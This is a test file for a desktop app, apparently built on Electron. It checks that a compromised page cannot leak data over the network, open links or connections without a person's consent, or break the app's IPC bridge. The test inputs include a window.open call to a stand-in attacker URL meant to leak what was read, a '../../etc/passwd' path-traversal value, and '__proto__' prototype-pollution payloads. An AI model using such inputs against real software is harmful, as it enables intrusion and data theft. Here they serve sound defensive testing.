import { once } from "node:events";
import { createSocket } from "node:dgram";
import { readFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { noBrowser, startBrowser } from "../console/browser.js";
import { startDaemon, type Daemon } from "../daemon.js";
import { createTemporaryFolder } from "../temporary-folder.js";
import { startApp } from "./start-app.js";

const attacks = readFileSync(join(import.meta.dirname, "attacks.js"), "utf8");

/** Somebody outside who waits for what a page lets out, and counts who comes. */
async function startOutside() {
  const came: string[] = [];
  const tcp = createServer((socket) => {
    came.push("tcp");
    socket.on("error", () => undefined).destroy();
  }).listen(0, "127.0.0.1");
  await once(tcp, "listening");
  const udp = createSocket("udp4").on("message", () => came.push("udp"));
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
  const { port } = tcp.address() as AddressInfo;
  return {
    came,
    addresses: {
      http: `http://127.0.0.1:${String(port)}`,
      stun: `stun:127.0.0.1:${String(udp.address().port)}`,
      turn: `turn:127.0.0.1:${String(port)}?transport=tcp`,
    },
    [Symbol.dispose](): void {
      tcp.close();
      udp.close();
    },
  };
}

describe("a page of the desktop app that somebody took over", () => {
  let browser: Browser;
  const data = createTemporaryFolder();
  let daemon: Daemon;
  const before = process.env["MACHINERY_URL"];
  beforeAll(async () => {
    if (noBrowser !== undefined) return;
    // What the app tells Electron's session and contents: the first test holds the two against each other.
    browser = await startBrowser([
      "--proxy-server=http://127.0.0.1:9",
      "--proxy-bypass-list=<-loopback>",
      "--webrtc-ip-handling-policy=disable_non_proxied_udp",
    ]);
    daemon = await startDaemon({ data: data.path });
    process.env["MACHINERY_URL"] = daemon.url;
  });
  afterAll(async () => {
    await browser?.close();
    await daemon?.end("SIGTERM");
    process.env["MACHINERY_URL"] = before;
    if (before === undefined) delete process.env["MACHINERY_URL"];
    data[Symbol.dispose]();
  });
  beforeEach((context) => context.skip(noBrowser !== undefined, noBrowser));

  it("gets nothing out by any way that a browser has", async () => {
    using outside = await startOutside();
    using userData = createTemporaryFolder();
    const app = await startApp({ browser, userData: userData.path });
    const { page, seen, window } = app;
    await page.getByText("live", { exact: true }).waitFor();
    expect(seen.proxies).toEqual([
      { mode: "fixed_servers", proxyRules: "http://127.0.0.1:9", proxyBypassRules: "<-loopback>" },
    ]);
    expect(window.webContents.webRtcPolicy).toBe("disable_non_proxied_udp");
    expect([...seen.session].toSorted()).toEqual([
      "setBluetoothPairingHandler",
      "setDevicePermissionHandler",
      "setDisplayMediaRequestHandler",
      "setPermissionCheckHandler",
      "setPermissionRequestHandler",
      "setProxy",
      "webRequest",
    ]);

    const { outcomes, blocked } = await page.evaluate<{
      readonly outcomes: Record<string, unknown>;
      readonly blocked: readonly string[];
    }>(`${attacks}\nwindow.tryAllWaysOut(${JSON.stringify(outside.addresses)})`);

    expect(outcomes).toEqual({
      fetch: "refused",
      fetchOwnFile: "refused",
      webSocket: "error",
      eventSource: "error",
      image: "error",
      script: "error",
      style: "error",
      dynamicImport: "refused",
      serviceWorker: "refused",
      blobWorker: "error",
      eval: "refused",
      newFunction: "refused",
      inlineScript: "refused",
      inlineStyle: "refused",
      webRtc: [],
    });
    expect(blocked).toEqual(
      expect.arrayContaining(["connect-src", "img-src", "script-src-elem", "style-src-elem", "form-action"]),
    );
    expect(window.webContents.loaded).toEqual([]);
    expect(outside.came).toEqual([]);
    await app.quit();
  });

  it("gets nothing out through the app: it reaches no address, and opens none, without a person's yes", async () => {
    using outside = await startOutside();
    using userData = createTemporaryFolder();
    const app = await startApp({ browser, userData: userData.path });
    const { page, seen } = app;
    await page.getByText("live", { exact: true }).waitFor();
    const draft = { name: "<b>harmless</b>", colour: "red", url: outside.addresses.http, guard: "free" };
    const ask = (request: object) =>
      page.evaluate<{ readonly refusal?: { readonly found: string } }>(
        `window.machinery.ask(${JSON.stringify(request)})`,
      );

    const { refusal } = await ask({ kind: "save", draft });
    await page.evaluate(`void window.open("https://evil.example/?what-was-read")`);
    await expect.poll(() => seen.questions.length).toBe(2);

    expect(refusal?.found).toBe("no");
    expect(seen.questions.map(({ message }) => message)).toEqual([
      `Connect to ${outside.addresses.http}?`,
      "Open evil.example in the browser?",
    ]);
    expect(seen.openedOutside).toEqual([]);
    expect(outside.came).toEqual([]);
    await app.quit();
  });

  it("is held by the app, which goes on: floods, forgeries and what is no message", async () => {
    using userData = createTemporaryFolder();
    const app = await startApp({ browser, userData: userData.path });
    const { page, seen } = app;
    await page.getByText("live", { exact: true }).waitFor();

    const { kept, outcomes, polluted } = await page.evaluate<{
      readonly kept: readonly string[];
      readonly outcomes: Readonly<Record<string, number>>;
      readonly polluted: string;
    }>(`(async () => {
      const forged = [null, 7, "save", [], { kind: "__proto__" }, { kind: "save", draft: { __proto__: { guard: "free" } } },
        { kind: "use", id: "../../etc/passwd" }, { kind: "save", draft: { name: "x".repeat(3000000) } },
        { kind: "save", draft: { id: "__proto__", name: "a", colour: "red", url: "http://127.0.0.1:1", guard: "free" } }];
      const told = [];
      for (const request of forged) told.push(await window.machinery.ask(request));
      const flood = await Promise.allSettled(Array.from({ length: 500 }, () => window.machinery.ask({ kind: "look" })));
      for (let count = 0; count < 100; count++) window.machinery.openPort(count % 2 ? "no such connection" : told[0].state.currentId, 9000 + count);
      try { window.machinery.ask = () => "mine"; } catch {}
      const outcomes = { forged: told.filter(({ refusal }) => refusal !== undefined).length, flood: flood.length };
      return { kept: told.at(-1).state.connections.map(({ name }) => name), outcomes, polluted: String({}.guard) };
    })()`);

    expect(outcomes).toEqual({ forged: 9, flood: 500 });
    expect([kept, polluted, seen.questions]).toEqual([["This computer"], "undefined", []]);
    expect(await page.evaluate("Object.keys(window.machinery)")).toEqual(["ask", "openPort"]);
    // The app answers as before, and so does the daemon.
    await page.reload();
    await page.getByText("live", { exact: true }).waitFor();
    await app.quit();
  });
});
